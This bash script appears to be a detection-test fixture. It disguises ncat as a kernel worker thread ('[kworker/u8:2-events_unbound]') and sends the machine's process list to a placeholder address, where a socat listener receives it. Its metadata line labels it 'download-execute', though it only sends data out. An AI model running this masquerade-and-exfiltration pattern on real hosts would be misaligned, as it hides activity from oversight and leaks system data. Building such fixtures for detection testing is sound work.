#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=ncat,bash far=out ready=out:4446 seconds=16 parts=dns
# A program of the system's calls itself as a thread of the kernel's, in brackets, and sends a list away.
if [ "$1" = out ]; then exec timeout 30 socat -u TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr "CREATE:$LAB/heard"; fi
(ps ax; sleep 8) | (exec -a '[kworker/u8:2-events_unbound]' ncat --send-only 203.0.113.66 4446)
grep -q PID "$LAB/heard"
